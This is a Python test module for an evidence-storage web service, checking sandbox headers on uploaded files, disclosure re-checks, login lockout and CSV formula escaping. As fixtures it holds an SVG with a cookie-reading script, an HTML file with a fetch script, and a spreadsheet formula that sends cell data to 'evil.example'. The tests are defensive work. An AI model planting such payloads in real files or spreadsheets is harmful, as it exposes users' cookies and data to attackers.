"""Issue 19, the HTTP side: content headers, disclosure re-checked at delivery, lockout, and the low items.

One station per module (real S3, real SQLite, ffmpeg clips, a docked HTML and
SVG file with script in them); the API and the pages served by TestClient as
`evidock run` serves them (``create_app``).
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from access.errors import ApprovalError
from access.people import Person, Role, add_user, disable_user, hash_password
from chain.entries import decode
from evidock import settings as settings_mod
from evidock import spreadsheet
from evidock.api.factory import create_app
from evidock.api.listen import Listen
from evidock.api.server import HttpServer
from evidock.app import App, open_app, retention_context
from evidock.cli import main
from evidock.keys import init_key
from evidock.login_backoff import Backoff
from evidock.settings import ConfigError, Settings
from retention import labelling
from storage import journal
from storage.access_terms import Action
from storage.schema import log_entries
from tests import media
from tests.conftest import add_people, add_person, dock, free_port, raw_config, staff, station_env, use, write_config

pytestmark = pytest.mark.s3

DAY = datetime(2026, 11, 21, tzinfo=UTC)
CASE = "京朝公(治)行罚决字[2026]77号"
SCRIPT_HTML = b"<!doctype html><title>x</title><script>fetch('/api/v1/recordings')</script>"
SCRIPT_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
SANDBOX = "sandbox"
PASSWORD = "correct horse battery"  # noqa: S105 - a test user's password


@dataclass
class World:
    settings: Settings
    evi: App
    client: TestClient
    tokens: dict[str, str]
    video: str  # a real MP4, labelled with party 张三
    html: str  # a docked .html with a script
    svg: str  # a docked .svg with a script

    def auth(self, name: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[name]}", "X-Evidock-User": name}

    def get(self, name: str, url: str, **kwargs: Any) -> Any:
        return self.client.get(url, headers={**self.auth(name), **kwargs.pop("headers", {})}, **kwargs)

    def post(self, name: str, url: str, body: Any) -> Any:
        return self.client.post(url, headers=self.auth(name), json=body)

    def log_size(self) -> int:
        with self.evi.catalog.read() as conn:
            return journal.size(conn)

    def web(self, name: str) -> TestClient:
        """A browser session logged in as ``name`` (an API token is accepted as the login secret)."""
        pages = TestClient(create_app(self.evi), follow_redirects=False)
        form = pages.get("/login")
        token = re.search(r'name="csrf" value="([^"]+)"', form.text)
        assert token is not None
        logged = pages.post("/login", data={"name": name, "secret": self.tokens[name], "csrf": token.group(1)})
        assert logged.status_code == 303, logged.text[:300]
        return pages


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, s3_env: dict[str, str]) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("hardening")
    inbox = tmp / "inbox"
    inbox.mkdir()
    config = write_config(tmp / "config.toml", raw_config(tmp, f"t-{uuid.uuid4().hex[:20]}", s3_env["S3_ENDPOINT"]))
    settings = settings_mod.load(config, station_env(s3_env))
    vkey, _ = init_key(settings)
    with open_app(settings) as evi:
        evi.log_key(vkey)
        start = DAY + timedelta(hours=1)
        clip = media.clip(
            inbox / f"CAM77_P7701_{start + timedelta(hours=8):%Y%m%d%H%M%S}_0001.mp4",
            seconds=2,
            created=start,
            mark=uuid.uuid4().hex,
        )
        video = dock(evi, clip)
        html_file = inbox / "CAM77_P7701_20261121100000_0002.html"
        html_file.write_bytes(SCRIPT_HTML + uuid.uuid4().hex.encode())
        svg_file = inbox / "CAM77_P7701_20261121100100_0003.svg"
        svg_file.write_bytes(SCRIPT_SVG + uuid.uuid4().hex.encode())
        html, svg = dock(evi, html_file), dock(evi, svg_file)
        labelling.label(
            retention_context(evi), [video], case_number=CASE, parties=["张三"], handler="赵六", by="c1", now=evi.now()
        )
        tokens = add_people(settings, staff("P7701"))
        client = TestClient(create_app(evi))
        yield World(settings, evi, client, tokens, video, html, svg)


def _approved(world: World, rec: str, *, action: str = "download", approver: str = "c2", **extra: Any) -> int:
    asked = world.post(
        "c1", "/api/v1/access-requests", {"recordings": [rec], "action": action, "reason": "court", **extra}
    )
    assert asked.status_code == 200, asked.text
    number = int(asked.json()["id"])
    decision = {"reason": "letter checked"}
    if extra.get("category") == "party":  # art. 29: the original only with the approver's statement
        decision["no_third_parties"] = "画面和声音中无第三人"
    approved = world.post(approver, f"/api/v1/access-requests/{number}/approve", decision)
    assert approved.status_code == 200, approved.text
    return number


# -- 2. docked HTML/SVG are never rendered from the station's origin -----------------------------------


def _content_headers_hold(answer: Any) -> None:
    assert answer.headers["x-content-type-options"] == "nosniff"
    csp = answer.headers["content-security-policy"]
    assert SANDBOX in [part.strip() for part in csp.split(";")], csp
    assert "default-src 'none'" in csp, csp


@pytest.mark.parametrize("which", ["html", "svg"])
def test_docked_html_and_svg_are_attachments_of_no_type_through_the_api(world: World, which: str) -> None:
    rec = getattr(world, which)
    for url in (
        f"/api/v1/recordings/{rec}/content?reason=look",
        f"/api/v1/recordings/{rec}/content?reason=look&action=view",
    ):
        answer = world.get("o1", url)
        assert answer.status_code == 200, answer.text
        assert answer.headers["content-type"] == "application/octet-stream", url
        assert answer.headers["content-disposition"].startswith("attachment;"), url
        _content_headers_hold(answer)
        assert answer.content.startswith(SCRIPT_HTML if which == "html" else SCRIPT_SVG)
    ranged = world.get("o1", f"/api/v1/recordings/{rec}/content?reason=look", headers={"Range": "bytes=0-9"})
    assert ranged.status_code == 206
    assert ranged.headers["content-type"] == "application/octet-stream"
    assert ranged.headers["content-disposition"].startswith("attachment;")
    _content_headers_hold(ranged)
    outside = world.get("o1", f"/api/v1/recordings/{rec}/content?reason=look", headers={"Range": "bytes=999999-"})
    assert outside.status_code == 416
    _content_headers_hold(outside)


@pytest.mark.parametrize("which", ["html", "svg"])
def test_docked_html_and_svg_are_attachments_of_no_type_through_the_web_player(world: World, which: str) -> None:
    rec = getattr(world, which)
    pages = world.web("o1")
    form = pages.get(f"/recordings/{rec}")
    assert form.status_code == 200, form.text[:300]
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf is not None
    asked = pages.post(f"/recordings/{rec}/play", data={"reason": "复核", "csrf": csrf.group(1)})
    assert asked.status_code == 303, asked.text[:300]
    for headers in ({}, {"Range": "bytes=0-9"}):
        answer = pages.get(f"/recordings/{rec}/stream", headers=headers)
        assert answer.status_code in (200, 206), answer.text[:300]
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment;")
        _content_headers_hold(answer)


def test_a_video_still_plays_inline_under_the_sandbox(world: World) -> None:
    answer = world.get("o1", f"/api/v1/recordings/{world.video}/content?reason=watch")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "video/mp4"
    assert answer.headers["content-disposition"].startswith("inline;")
    _content_headers_hold(answer)


# -- 3. every disclosure condition is re-checked at delivery ----------------------------------------------


def _relabel(world: World, rec: str, parties: list[str]) -> None:
    labelling.label(
        retention_context(world.evi),
        [rec],
        case_number=CASE,
        parties=parties,
        handler="赵六",
        by="c2",
        now=world.evi.now(),
    )


def test_a_party_request_is_refused_once_the_recording_is_relabelled_to_someone_else(
    world: World, tmp_path: Path
) -> None:
    rec = world.video
    number = _approved(world, rec, category="party", party="张三", document_ref="身份证 110105…")
    _relabel(world, rec, ["王五"])
    before = world.log_size()
    url = f"/api/v1/recordings/{rec}/content?request={number}"
    refused = world.get("c1", url)
    assert refused.status_code == 403, refused.text
    assert "no longer labelled with the party" in refused.json()["detail"]
    assert "王五" not in refused.json()["detail"], "the refusal must not name the third party"
    assert world.log_size() == before, "a refused delivery writes no ACCESS entry"
    shown = world.get("c1", f"/api/v1/access-requests/{number}").json()
    assert shown["recordings"][0]["used_at"] is None, "a refusal spends no approval"

    # The CLI's download goes through the same gate.
    with pytest.raises(ApprovalError, match="no longer labelled"):
        world.evi.gate().download(Person("c1", Role.CUSTODIAN), rec, request_id=number, out=tmp_path / "copy.mp4")
    assert list(tmp_path.iterdir()) == [], "nothing is written for a refused download"

    _relabel(world, rec, ["王五", "张三"])  # the party is on the label again: the approval holds
    got = world.get("c1", url)
    assert got.status_code == 200, got.text
    _relabel(world, rec, ["张三"])


def test_the_relabel_between_the_check_and_the_entry_is_caught_in_the_entry_transaction(world: World) -> None:
    """The gate checks before and again inside the transaction that writes the ACCESS entry."""
    rec = world.video
    number = _approved(world, rec, category="party", party="张三", document_ref="身份证 110105…")
    gate = world.evi.gate()
    person = Person("c1", Role.CUSTODIAN)
    gate.check_grant(person, rec, action=Action.DOWNLOAD, request_id=number)  # fine now
    real = gate.check_grant

    def check_then_relabel(*args: Any, **kwargs: Any) -> Any:
        found = real(*args, **kwargs)
        _relabel(world, rec, ["王五"])  # another custodian relabels right after the first check
        return found

    gate.check_grant = check_then_relabel  # type: ignore[method-assign]  # a race made to happen
    before = world.log_size()
    with pytest.raises(ApprovalError, match="no longer labelled"):
        gate.open_content(person, rec, action=Action.DOWNLOAD, request_id=number)
    after = world.log_size()
    with world.evi.catalog.read() as conn:
        kinds = [
            decode(bytes(d)).type.value
            for (d,) in conn.execute(select(log_entries.c.data).where(log_entries.c.idx >= before))
        ]
    assert kinds == ["LABEL"], "only the relabel was logged; no ACCESS entry"
    assert after == before + 1
    _relabel(world, rec, ["张三"])


def test_an_approval_by_someone_since_disabled_is_not_delivered(world: World) -> None:
    rec = world.svg
    world.tokens["c.gone"] = add_person(world.settings, "c.gone", Role.CUSTODIAN)
    number = _approved(world, rec, approver="c.gone")
    with world.evi.catalog.begin() as conn:
        disable_user(
            conn,
            journal=world.evi.journal,
            actor=Person("root", Role.ADMIN),
            name="c.gone",
            reason="left",
            time=world.evi.now(),
        )
    refused = world.get("c1", f"/api/v1/recordings/{rec}/content?request={number}")
    assert refused.status_code == 403, refused.text
    assert "approver is disabled" in refused.json()["detail"]


# -- 5. lockout: per (name, address), and a valid token is never refused -------------------------------


def test_a_disabled_token_in_a_loop_locks_out_nobody_else_on_the_same_address(world: World) -> None:
    token = add_person(world.settings, "old.script", Role.OFFICER, officer_id="P7701")
    with world.evi.catalog.begin() as conn:
        disable_user(
            conn,
            journal=world.evi.journal,
            actor=Person("root", Role.ADMIN),
            name="old.script",
            reason="retired",
            time=world.evi.now(),
        )
    client = TestClient(create_app(world.evi, backoff=Backoff(attempts=3, forget_seconds=60)))
    stale = {"Authorization": f"Bearer {token}", "X-Evidock-User": "old.script"}
    answers = [client.get("/api/v1/recordings", headers=stale).status_code for _ in range(20)]
    assert answers[:2] == [401] * 2
    assert set(answers[2:]) == {429}, "the third failure in a row starts the wait"
    for name in ("o1", "c1", "a1"):
        assert client.get("/api/v1/recordings", headers=world.auth(name)).status_code == 200, name
    # Someone guessing o1's token from this address does not stop o1's valid token either.
    wrong = {"Authorization": "Bearer evk_guess", "X-Evidock-User": "o1"}
    assert [client.get("/api/v1/recordings", headers=wrong).status_code for _ in range(5)][-1] == 429
    assert client.get("/api/v1/recordings", headers=world.auth("o1")).status_code == 200


def test_failed_web_logins_wait_per_name_and_address_and_back_off(world: World) -> None:
    with world.evi.catalog.begin() as conn:
        add_user(
            conn,
            journal=world.evi.journal,
            actor=Person("root", Role.ADMIN),
            name="pw.user",
            role=Role.CUSTODIAN,
            password_hash=hash_password(PASSWORD),
            time=world.evi.now(),
        )
    app = create_app(world.evi)
    attacker = TestClient(app, follow_redirects=False, client=("10.9.9.9", 40000))
    owner = TestClient(app, follow_redirects=False, client=("10.1.1.1", 40001))
    form = _csrf(attacker.get("/login").text)
    answers = [
        attacker.post("/login", data={"name": "pw.user", "secret": f"guess {n}!", "csrf": form}).status_code
        for n in range(world.settings.web.login_attempts + 2)
    ]
    assert answers[: world.settings.web.login_attempts - 1] == [401] * (world.settings.web.login_attempts - 1)
    assert answers[-2:] == [429, 429]
    # Even the right password from the attacker's address waits (a guess must stay slow) ...
    right = attacker.post("/login", data={"name": "pw.user", "secret": PASSWORD, "csrf": form})
    assert right.status_code == 429
    # ... but the owner, from their own machine, logs in; so does a colleague from the attacker's address.
    mine = owner.post("/login", data={"name": "pw.user", "secret": PASSWORD, "csrf": _csrf(owner.get("/login").text)})
    assert mine.status_code == 303, mine.text[:300]
    colleague = attacker.post("/login", data={"name": "c1", "secret": world.tokens["c1"], "csrf": form})
    assert colleague.status_code == 303


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found is not None
    return found.group(1)


# -- 4. no CSV cell the product writes can start a formula --------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'


def test_a_formula_typed_as_a_reason_is_text_in_every_audit_csv(
    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    looked = world.get("o1", f"/api/v1/recordings/{world.video}", params={"reason": FORMULA})
    assert looked.status_code == 200, looked.text
    api = world.get("a1", "/api/v1/audit/access", params={"format": "csv", "reason": "audit"})
    assert api.status_code == 200, api.text
    pages = world.web("a1")
    web = pages.get("/audit.csv")
    assert web.status_code == 200, web.text[:300]
    use(monkeypatch, "a1", world.tokens["a1"])
    assert main(["--config", str(world.settings.source), "audit", "access", "--csv"]) == 0
    cli = capsys.readouterr().out
    for where, text in (("api", api.text), ("web", web.text), ("cli", cli)):
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert "'" + FORMULA in cells, where
        assert not any(c.startswith(spreadsheet.FORMULA_STARTS) for c in cells), where


def test_a_formula_as_a_case_number_is_text_in_the_compliance_csv(
    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    labelling.label(
        retention_context(world.evi),
        [world.html],
        case_number="=1+1",
        parties=["@李四"],
        handler="-赵六",
        by="c1",
        now=world.evi.now(),
    )
    use(monkeypatch, "c1", world.tokens["c1"])
    assert main(["--config", str(world.settings.source), "compliance", "--csv"]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
    assert "'=1+1" in cells
    assert not any(c.startswith(spreadsheet.FORMULA_STARTS) for c in cells)


# -- 6. the low items ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a1", "root", "s1"])
def test_a_role_that_may_not_export_is_refused_at_once(world: World, name: str) -> None:
    before = world.log_size()
    body = {"request": 1, "case_number": CASE, "maker": "x", "extractor": "y"}
    answer = world.post(name, "/api/v1/exports", body)
    assert answer.status_code == 403, answer.text
    assert answer.json()["error"] == "NotPermitted"
    assert world.log_size() == before


def test_a_range_on_a_single_use_download_is_refused_and_spends_nothing(world: World) -> None:
    rec = world.video
    number = _approved(world, rec)
    url = f"/api/v1/recordings/{rec}/content?request={number}"
    before = world.log_size()
    ranged = world.get("c1", url, headers={"Range": "bytes=0-9"})
    assert ranged.status_code == 400, ranged.text
    assert "single-use" in ranged.json()["detail"]
    assert "not used" in ranged.json()["detail"]
    assert world.log_size() == before, "nothing delivered, nothing logged"
    whole = world.get("c1", url)
    assert whole.status_code == 200
    assert len(whole.content) == int(whole.headers["content-length"]) > 10
    assert world.get("c1", url).status_code == 403, "spent by the full delivery"


def test_a_422_says_where_and_why_but_never_echoes_the_input(world: World) -> None:
    secret = "SECRET-" + "x" * 3000
    answer = world.post(
        "c1", "/api/v1/access-requests", {"recordings": [world.video], "action": "copy", "reason": secret}
    )
    assert answer.status_code == 422
    assert "SECRET" not in answer.text
    assert answer.json()["detail"][0]["loc"] == ["body", "reason"]
    wrong = world.post("c1", "/api/v1/access-requests", {"recordings": "evk_abc", "action": "copy", "reason": "x"})
    assert wrong.status_code == 422
    assert "evk_abc" not in wrong.text


def test_trusted_proxies_must_be_addresses(tmp_path: Path, s3_env: dict[str, str]) -> None:
    raw = raw_config(tmp_path, "bucket-b", s3_env["S3_ENDPOINT"], web={"trusted_proxies": ["10.0.0.1", "proxy.local"]})
    with pytest.raises(ConfigError, match=r"web.trusted_proxies = .*'proxy.local' is not an IP address or network"):
        settings_mod.load(write_config(tmp_path / "config.toml", raw), station_env(s3_env))
    raw["web"]["trusted_proxies"] = ["10.0.0.0/8", "127.0.0.1"]
    loaded = settings_mod.load(write_config(tmp_path / "config.toml", raw), station_env(s3_env))
    assert loaded.web.trusted_proxies == ("10.0.0.0/8", "127.0.0.1")
    plain = write_config(tmp_path / "c2.toml", raw_config(tmp_path, "bucket-b", s3_env["S3_ENDPOINT"]))
    assert settings_mod.load(plain, station_env(s3_env)).web.trusted_proxies == (), "no proxy trusted by default"


@pytest.mark.parametrize(("trusted", "limited"), [((), True), (("127.0.0.1",), False)])
def test_x_forwarded_for_is_believed_only_from_a_configured_proxy(
    world: World, trusted: tuple[str, ...], limited: bool
) -> None:
    """Wrong tokens, each claiming another client address: counted for 127.0.0.1 unless it is a trusted proxy."""
    port = free_port()
    server = HttpServer(
        create_app(world.evi, backoff=Backoff(attempts=2)), Listen("127.0.0.1", port), trusted_proxies=trusted
    )
    server.start()
    try:
        codes = [
            httpx2.get(
                f"http://127.0.0.1:{port}/api/v1/recordings",
                headers={"Authorization": "Bearer evk_x", "X-Evidock-User": "o1", "X-Forwarded-For": f"10.0.0.{n}"},
                timeout=10,
            ).status_code
            for n in range(4)
        ]
    finally:
        server.stop()
    assert (429 in codes) is limited, codes
